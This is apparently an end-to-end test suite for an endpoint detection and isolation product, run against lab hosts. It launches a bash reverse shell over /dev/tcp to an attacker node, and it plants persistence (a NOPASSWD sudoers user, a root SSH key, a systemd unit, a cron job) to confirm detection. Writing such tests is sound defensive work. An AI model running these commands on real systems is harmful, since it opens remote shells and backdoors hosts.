import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { labSupport, type Capture, type LabHost, type LabNode, type Packet, skipWithout } from '../lab/lab.ts'
import { bootFleet, type Fleet, GATEWAY_PORT } from './fleet.ts'
import { nameServer } from './name-server.ts'

const support = await labSupport()
interface StartEvent {
  readonly event: { readonly type: readonly string[] }
  readonly process: { readonly command_line?: string; readonly executable?: string }
}

const SHIPPED_RULES = join(import.meta.dirname, '../../controller/content/rules')

interface CommandShown {
  readonly id: string
  readonly type: string
  readonly state: string
  readonly code: string | null
  readonly evidence: {
    readonly killed?: readonly { pid: number; executable?: string }[]
    readonly surviving?: readonly number[]
    readonly probes?: readonly { name: string; expected: string; found: string }[]
    readonly ruleset_restored?: boolean
  } | null
  readonly transitions: readonly { state: string; at: string }[]
}

describe.skipIf(skipWithout(support, 7, 'the main job'))(
  'from a malicious command line to a host that is cut off, and back',
  () => {
    let fleet: Fleet
    let ownRules: string
    let web: LabHost
    let bystander: LabHost
    let attacker: LabNode
    let neighbour: LabNode
    let wire: Capture
    let rulesetBefore: string
    let isolation: CommandShown
    /** Wall time of the proof, ms: from here on nothing foreign may pass. */
    let isolatedAt: number

    beforeAll(async () => {
      ownRules = await mkdtemp(join(tmpdir(), 'firebreak-e2e-rules-'))
      fleet = await bootFleet({
        hosts: ['web-1', 'web-2'],
        controllerConfig: `detect:\n  rule_dirs: ${JSON.stringify([SHIPPED_RULES, ownRules])}\n`,
      })
      ;[web, bystander] = fleet.hosts as [LabHost, LabHost]
      attacker = await fleet.lab.node('attacker')
      neighbour = await fleet.lab.node('neighbour')
      neighbour.spawn([
        process.execPath,
        '-e',
        'require("http").createServer((q, a) => a.end("hello")).listen(80, "::")',
      ])
      // A listener that talks without pause, so that a connection that still carries bytes cannot be overlooked.
      attacker.spawn([
        process.execPath,
        '-e',
        'require("net").createServer((s) => { s.on("error", () => {}); s.on("data", () => {}); setInterval(() => s.write("echo still here\\n"), 50) }).listen(4444, "::")',
      ])
      // A rule of the owner's own, which must be there afterwards exactly as before.
      await web.exec(['nft', '-f', '-'], {
        input:
          'table inet owner {\n set admins { type ipv4_addr; elements = { 192.0.2.7 }; }\n chain input {\n type filter hook input priority 0; policy accept;\n ip saddr @admins tcp dport 22 counter accept\n }\n}\n',
      })
      rulesetBefore = (await web.exec(['nft', '-s', 'list', 'ruleset'])).stdout
      wire = await fleet.lab.capture({ on: web })
      await fleet.controller.until('the neighbour answers', async () =>
        (await reaches(web, neighbour.address4)) && (await reaches(web, `[${neighbour.address6}]`)) ? true : undefined,
      )
    })
    afterAll(async () => {
      await fleet?.[Symbol.asyncDispose]()
      await rm(ownRules, { recursive: true, force: true })
    })

    it('sees the command line, decides, and isolates the host by itself', async () => {
      web.spawn(['bash', '-c', `bash -i >& /dev/tcp/${attacker.address4}/4444 0>&1; true`])
      await wire.waitFor((packet) => packet.destinationPort === 4444 && packet.source === web.address4)
      isolation = await fleet.controller.until('the isolation is verified', async () => {
        const commands = await fleet.controller.json<CommandShown[]>(['commands', 'list'])
        const found = commands.find((command) => command.type === 'isolate-host')
        if (found && ['failed', 'refused', 'refuted', 'unknown'].includes(found.state))
          throw new Error(JSON.stringify(await fleet.controller.json(['commands', 'show', found.id]), undefined, 1))
        return found?.state === 'verified' ? found : undefined
      })
      isolatedAt = Date.now()
      isolation = await fleet.controller.json<CommandShown>(['commands', 'show', isolation.id])
      expect(isolation.transitions.map(({ state }) => state)).toEqual(
        expect.arrayContaining(['approved', 'queued', 'delivered', 'accepted', 'applied', 'verified']),
      )
      expect(
        isolation.evidence?.probes?.some((probe) => probe.expected === 'blocked' && probe.found === 'blocked'),
      ).toBe(true)
      expect(
        isolation.evidence?.probes?.some((probe) => probe.expected !== probe.found && probe.found !== 'unverifiable'),
      ).toBe(false)
    })

    it('leaves nothing on the wire but the connection to the controller', async () => {
      expect(await reaches(web, neighbour.address4)).toBe(false)
      expect(await reaches(web, `[${neighbour.address6}]`)).toBe(false)
      await web.exec(['ping', '-c', '2', '-i', '0.2', '-W', '1', neighbour.address4], { check: false })
      await web.exec(['ping', '-6', '-c', '2', '-i', '0.2', '-W', '1', neighbour.address6], { check: false })
      await web.exec(
        ['bash', '-c', `for port in 53 123 443; do echo probe > /dev/udp/${attacker.address4}/$port; done`],
        { check: false },
      )
      await attacker.exec(['ping', '-c', '2', '-i', '0.2', '-W', '1', web.address4], { check: false })
      await attacker.exec([
        process.execPath,
        '-e',
        `const s = require("net").connect(22, "${web.address4}"); s.on("error", () => {}); setTimeout(() => process.exit(), 500)`,
      ])
      await sleep(500)
      const leaked = wire.packets.filter(
        (packet) => packet.atMs > isolatedAt && leftHost(packet, web) && !isAllowed(packet),
      )
      expect(leaked).toEqual([])
      const knocked = wire.packets.filter((packet) => packet.atMs > isolatedAt && packet.source === attacker.address4)
      expect(knocked.length, 'the attacker did knock while we watched').toBeGreaterThan(0)
      const spoken = wire.packets.filter(
        (packet) =>
          packet.atMs > isolatedAt &&
          packet.source === web.address4 &&
          packet.destination === fleet.controller.node.address4,
      )
      expect(spoken.length, 'the controller is still spoken to').toBeGreaterThan(0)
    })

    it('disturbs no other host', async () => {
      expect(await reaches(bystander, neighbour.address4)).toBe(true)
      expect(await fleet.controller.json(['hosts', 'show', bystander.name])).toMatchObject({
        connected: true,
        containment: { phase: 'none' },
      })
    })

    it('tells an administrator the whole story', async () => {
      const incidents = await fleet.controller.json<{ id: string; status: string; confidence: number }[]>([
        'incidents',
        'list',
      ])
      expect(incidents).toHaveLength(1)
      const shown = await fleet.controller.cli(['incidents', 'show', incidents[0]!.id])
      expect(shown.code, shown.stderr).toBe(0)
      expect(shown.stdout).toContain('web-1')
      expect(shown.stdout).toContain('/dev/tcp/')
      expect(shown.stdout).toContain('contain-host')
      expect(shown.stdout).toContain('verified')
      const events = await fleet.controller.json<unknown[]>([
        'events',
        'search',
        'process.command_line:"/dev/tcp/"',
        '--host',
        'web-1',
      ])
      expect(events.length).toBeGreaterThan(0)
    })

    it('is free again after a release, with the very ruleset it had', async () => {
      const released = await fleet.controller.cli([
        'release',
        'web-1',
        '--yes',
        '--wait',
        '--reason',
        'checked by hand',
      ])
      expect(released.code, released.stdout + released.stderr).toBe(0)
      expect((await web.exec(['nft', '-s', 'list', 'ruleset'])).stdout).toBe(rulesetBefore)
      expect(await reaches(web, neighbour.address4)).toBe(true)
      const commands = await fleet.controller.json<CommandShown[]>(['commands', 'list'])
      const release = commands.find((command) => command.type === 'release-host')
      const shown = await fleet.controller.json<CommandShown>(['commands', 'show', release!.id])
      expect(shown.evidence?.ruleset_restored).toBe(true)
    })

    it('kills a process and its descendants by hand, with the proof that they are gone', async () => {
      await using tree = bystander.spawn(['bash', '-c', 'sleep 4241 & bash -c "sleep 4242 & wait" & wait'])
      const root = await tree.pidInside()
      const alive = async (pattern: string) =>
        (await bystander.exec(['pgrep', '-f', pattern], { check: false })).stdout.split('\n').filter(Boolean)
      await fleet.controller.until('the tree is there', async () =>
        (await alive('^sleep 424[12]$')).length === 2 ? true : undefined,
      )
      const done = await fleet.controller.cli(['kill', 'web-2', String(root), '--tree', '--yes', '--reason', 'drill'])
      expect(done.code, done.stdout + done.stderr).toBe(0)
      expect(await alive('^sleep 424[12]$')).toEqual([])
      expect(await alive('sleep 4242 & wait')).toEqual([])
      const killed = await lastKill()
      expect(killed.state).toBe('verified')
      expect(killed.evidence?.surviving).toEqual([])
      expect(killed.evidence?.killed?.map(({ executable }) => executable?.split('/').at(-1)).toSorted()).toEqual([
        'bash',
        'bash',
        'sleep',
        'sleep',
      ])
      expect(killed.evidence?.killed?.map(({ pid }) => pid)).toContain(root)
    })

    it('is refused by the host to kill what its owner protects, with the reason', async () => {
      const pid = (await bystander.exec(['systemctl', 'show', '-P', 'MainPID', 'systemd-journald'])).stdout.trim()
      const done = await fleet.controller.cli(['kill', 'web-2', pid, '--yes', '--reason', 'drill'])
      expect(done.code, done.stdout + done.stderr).toBe(4)
      expect(done.stdout + done.stderr).toContain('above_ceiling')
      expect(await lastKill()).toMatchObject({ state: 'refused', code: 'above_ceiling', evidence: null })
      expect((await bystander.exec(['systemctl', 'show', '-P', 'MainPID', 'systemd-journald'])).stdout.trim()).toBe(pid)
    })

    it('looks for a new rule after SIGHUP, and goes on with the old one when the file is broken', async () => {
      const file = join(ownRules, 'own.yml')
      const title = 'Probe of the Reload'
      await writeFile(
        file,
        `title: ${title}\nid: 6a6a4c6a-54bb-4d7a-9a3c-1f5b8a1f0a01\nstatus: test\nlevel: low\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n    selection:\n        CommandLine|contains: firebreak-reload-probe\n    condition: selection\n`,
      )
      const matches = async () => {
        const rules = await fleet.controller.json<{ title: string; state: string; matches: number }[]>([
          'rules',
          'list',
          '--limit',
          '1000',
        ])
        return rules.find((rule) => rule.title === title && rule.state === 'live')?.matches
      }
      const fires = async () => {
        const before = (await matches()) ?? 0
        await bystander.exec(['sh', '-c', ': firebreak-reload-probe; sleep 1'])
        return await fleet.controller.until('the rule fires', async () => {
          const now = await matches()
          return now !== undefined && now > before ? true : undefined
        })
      }
      expect(await matches()).toBeUndefined()
      expect(await fleet.controller.reload()).toMatch(/^Reloaded: \d+ rules live, 0 refused;/)
      await fires()
      await writeFile(file, `title: ${title}\ndetection: [\n`)
      const told = await fleet.controller.reload()
      expect(told).toContain('1 refused')
      expect(told).toContain('1 rules go on in their last good version')
      await fires()
    })

    it('sees by the kernel sensor of its package, which has no more rights than it needs', async () => {
      const status = await bystander.exec(['firebreak-agent', 'status', '--json'])
      const { sources } = JSON.parse(status.stdout) as { sources: { class: string; source: string; quality: string }[] }
      expect(
        Object.fromEntries(
          sources.filter(({ source }) => source === 'sensor').map(({ class: name, quality }) => [name, quality]),
        ),
        status.stdout,
      ).toEqual({ process: 'full', network: 'full', file: 'full' })
      const sensor = (await bystander.exec(['pgrep', '-f', '^/usr/lib/firebreak-agent/firebreak-sensor'])).stdout.trim()
      const capabilities = (await bystander.readFile(`/proc/${sensor}/status`)).match(/^CapEff:\s*(\S+)$/m)?.[1]
      // Of the 41 capabilities: CAP_SYS_ADMIN (21), CAP_SYS_MODULE (16), CAP_SYS_RAWIO (17) and CAP_SYS_BOOT (22) are not among them.
      expect(BigInt(`0x${capabilities}`) & (0b1100011n << 16n)).toBe(0n)
    })

    it('misses no process, however short it lives', async () => {
      const mark = `short-lived-${Date.now()}`
      await bystander.exec(['bash', '-c', `for n in {1..200}; do /bin/true ${mark}-$n; done`])
      const found = await fleet.controller.until('all 200 of them', async () => {
        const events = await fleet.controller.json<StartEvent[]>([
          'events',
          'search',
          `process.command_line:"${mark}"`,
          '--host',
          'web-2',
          '--limit',
          '2000',
        ])
        const started = events.filter(
          ({ event, process: one }) => event.type.includes('start') && one.executable?.endsWith('/true'),
        )
        return new Set(started.map(({ process: one }) => one.command_line)).size === 200 ? started : undefined
      })
      expect(found.length).toBe(200)
      // One kernel under both hosts: what happens in one is no event of the other.
      expect(
        await fleet.controller.json(['events', 'search', `process.command_line:"${mark}"`, '--host', 'web-1']),
      ).toEqual([])
    })

    it('shows by search which names were asked for, what was connected to and which files changed, and by whom', async () => {
      const NAME = 'telemetry.example'
      const { address4 } = neighbour
      neighbour.spawn(nameServer(NAME, address4))
      await bystander.writeFile('/etc/resolv.conf', `nameserver ${address4}\n`, 0o644)
      await fleet.controller.until('the name is known', async () =>
        (await bystander.exec(['getent', 'ahostsv4', NAME], { check: false })).code === 0 ? true : undefined,
      )
      const datagram = `IO::Socket::INET->new(Proto => "udp", PeerAddr => "${address4}:5514")->send("hello")`
      await bystander.exec([
        'sh',
        '-c',
        [
          'mkdir /etc/probe',
          'echo one > /etc/probe/a',
          'mv /etc/probe/a /etc/probe/b',
          'chmod 4755 /etc/probe/b',
          'rm /etc/probe/b',
          `curl -s -o /dev/null http://${NAME}/`,
          `curl -s http://${NAME}:81/`,
          `perl -MIO::Socket::INET -e '${datagram}'`,
        ].join('; '),
      ])
      const to = (port: number) => ({ ip: address4, port })
      const wanted = [
        { event: { action: 'file-created' }, file: { path: '/etc/probe', type: 'dir' }, process: { name: 'mkdir' } },
        { event: { action: 'file-created' }, file: { path: '/etc/probe/a' }, process: { name: 'dash' } },
        { event: { action: 'file-written' }, file: { path: '/etc/probe/a', size: 4 }, process: { name: 'dash' } },
        {
          event: { action: 'file-renamed' },
          file: { path: '/etc/probe/b', previous: { path: '/etc/probe/a' } },
          process: { name: 'mv' },
        },
        {
          event: { action: 'file-mode-changed' },
          file: { path: '/etc/probe/b', mode: '4755' },
          process: { name: 'chmod' },
        },
        { event: { action: 'file-deleted' }, file: { path: '/etc/probe/b' }, process: { name: 'rm' } },
        {
          event: { action: 'dns-lookup', outcome: 'success' },
          dns: { question: { name: NAME, type: 'A' }, resolved_ip: [address4], response_code: 'NOERROR' },
          process: { name: 'curl' },
        },
        {
          event: { action: 'connection-attempted', outcome: 'success' },
          destination: to(80),
          process: { name: 'curl', command_line: `curl -s -o /dev/null http://${NAME}/` },
        },
        { event: { action: 'connection-closed' }, destination: to(80), process: { name: 'curl' } },
        {
          event: { action: 'connection-attempted', outcome: 'failure', reason: 'ECONNREFUSED' },
          destination: to(81),
          process: { name: 'curl' },
        },
        {
          event: { action: 'connection-attempted' },
          network: { transport: 'udp' },
          destination: to(5514),
          process: { name: 'perl' },
        },
      ].map((facts) => expect.objectContaining(nested(facts)))
      let found: unknown[] = []
      await fleet.controller
        .until(
          'all that was done',
          async () => {
            found = await fleet.controller.json([
              'events',
              'search',
              `dns.question.name:${NAME} or file.path:/etc/probe* or (destination.ip:${address4} and destination.port:(80 or 81 or 5514))`,
              '--host',
              'web-2',
            ])
            return wanted.every((one) => found.some((event) => one.asymmetricMatch(event))) ? true : undefined
          },
          20_000,
        )
        .catch(() => undefined) // what is missing is told below
      expect(found).toEqual(expect.arrayContaining(wanted))
      const closed = found.find((event) =>
        expect.objectContaining(nested({ event: { action: 'connection-closed' } })).asymmetricMatch(event),
      )
      expect(closed).toMatchObject({
        source: { bytes: expect.any(Number) },
        destination: { bytes: expect.any(Number) },
      })
    })

    it('says what a host is made of, and within seconds what changed', async () => {
      const inventory = async (kind: string) =>
        await fleet.controller.json<{ key: string; label: string; facts: Record<string, unknown> }[]>([
          'hosts',
          'inventory',
          'web-2',
          kind,
          '--limit',
          '5000',
        ])
      const installed = (await bystander.exec(['dpkg-query', '-W', '-f', '${Package} ${Version}\n'])).stdout
      const packages = await fleet.controller.until('the packages', async () => {
        const known = await inventory('packages')
        return known.length > 0 ? known : undefined
      })
      expect(
        packages
          .filter(({ facts }) => facts['type'] === 'deb')
          .map(({ label }) => label)
          .toSorted(),
      ).toEqual(installed.trim().split('\n').toSorted())
      expect((await inventory('sudoers')).map(({ label }) => label)).toContain('%sudo ALL=(ALL:ALL) ALL')
      expect((await inventory('users')).find(({ key }) => key === 'root')?.facts).toMatchObject({ login_shell: true })
      expect((await inventory('units')).find(({ key }) => key === 'firebreak-agent.service')?.facts).toMatchObject({
        enabled: 'enabled',
        exec_start: ['/usr/bin/firebreak-agent run'],
      })
      for (const { facts } of await inventory('ssh-keys')) {
        const shown = await bystander.exec(['ssh-keygen', '-l', '-f', String(facts['file'])])
        expect(shown.stdout).toContain(` ${String(facts['fingerprint'])} `)
        expect(shown.stdout).toMatch(new RegExp(`^${String(facts['bits'])} `))
      }

      await bystander.exec([
        'sh',
        '-c',
        [
          'useradd --create-home --shell /bin/bash mallory',
          'echo "mallory ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/mallory',
          'mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N "" -f /root/key && cp /root/key.pub /root/.ssh/authorized_keys',
          'printf "[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n" > /etc/systemd/system/back.service',
          'systemctl enable --quiet back.service',
          'mkdir -p /etc/cron.d && echo "* * * * * root /bin/true" > /etc/cron.d/back',
          'dpkg --purge --force-depends iputils-ping > /dev/null 2>&1',
        ].join(' && '),
      ])
      bystander.spawn(['nc', '-lk', '4949'])
      const wanted = [
        'cron-job-added',
        'group-created',
        'listening-port-opened',
        'package-removed',
        'ssh-key-added',
        'sudoers-changed',
        'unit-added',
        'user-created',
      ]
      let told: { event: { action: string }; message: string }[] = []
      const missing = () => wanted.filter((action) => !told.some(({ event }) => event.action === action))
      await fleet.controller
        .until('the differences', async () => {
          told = await fleet.controller.json([
            'events',
            'search',
            'event.dataset:firebreak.inventory and not event.action:*-present',
            '--host',
            'web-2',
            '--limit',
            '5000',
          ])
          return missing().length === 0 ? true : undefined
        })
        .catch(() => undefined)
      expect(missing()).toEqual([])
      const fingerprint = (await bystander.exec(['ssh-keygen', '-l', '-f', '/root/key.pub'])).stdout.split(' ')[1]
      expect(told.find(({ event }) => event.action === 'ssh-key-added')?.message).toContain(fingerprint)
      expect(told.find(({ event }) => event.action === 'listening-port-opened')?.message).toContain(':4949 nc')
      expect((await inventory('users')).map(({ key }) => key)).toContain('mallory')
      expect((await inventory('ports')).map(({ facts }) => facts['port'])).toContain(4949)
      expect((await inventory('packages')).map(({ facts }) => facts['name'])).not.toContain('iputils-ping')
    })

    it('is proved by receipts and an audit log that verify', async () => {
      const verified = await fleet.controller.cli(['audit', 'verify'])
      expect(verified.code, verified.stdout + verified.stderr).toBe(0)
      const { receipts } = await fleet.controller.json<{ receipts: number }>(['audit', 'verify'])
      expect(
        receipts,
        'accepted, applied, verified of the isolation; accepted, verified of the release',
      ).toBeGreaterThanOrEqual(5)
    })

    it('accounts for every event', async () => {
      for (const host of fleet.hosts) {
        const streams = await fleet.controller.until('the equation closes', async () => {
          const { streams } = await fleet.controller.json<{
            streams: { produced: number; stored: number; spooled: number; dropped: number }[]
          }>(['hosts', 'show', host.name])
          return streams.length > 0 &&
            streams.every((stream) => stream.produced === stream.stored + stream.spooled + stream.dropped)
            ? streams
            : undefined
        })
        expect(streams.reduce((sum, stream) => sum + stream.stored, 0)).toBeGreaterThan(0)
      }
    })

    async function lastKill(): Promise<CommandShown> {
      const commands = await fleet.controller.json<CommandShown[]>(['commands', 'list'])
      const newest = commands.find((command) => command.type === 'kill-process')
      return await fleet.controller.json<CommandShown>(['commands', 'show', newest!.id])
    }

    function isAllowed(packet: Packet): boolean {
      if (packet.proto === 'arp') return true
      // Neighbour discovery keeps the controller reachable (RFC 4861: types 133 to 136); multicast listener reports are 131, 132, 143.
      if (packet.proto === 'icmp6')
        return packet.icmpType !== undefined && packet.icmpType >= 133 && packet.icmpType <= 136
      const { address4, address6 } = fleet.controller.node
      return (
        packet.proto === 'tcp' &&
        packet.destinationPort === GATEWAY_PORT &&
        (packet.destination === address4 || packet.destination === address6)
      )
    }
  },
)

/** Facts that an event must have, whatever else it has. */
function nested(facts: Readonly<Record<string, unknown>>): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(facts).map(([name, value]) => [
      name,
      typeof value === 'object' && value !== null && !Array.isArray(value)
        ? expect.objectContaining(nested(value as Readonly<Record<string, unknown>>))
        : value,
    ]),
  )
}

function leftHost(packet: Packet, host: LabHost): boolean {
  return packet.sourceMac === host.mac
}

async function reaches(host: LabHost, address: string): Promise<boolean> {
  const done = await host.exec(['curl', '-s', '-m', '2', `http://${address}/`], { check: false })
  return done.code === 0 && done.stdout === 'hello'
}
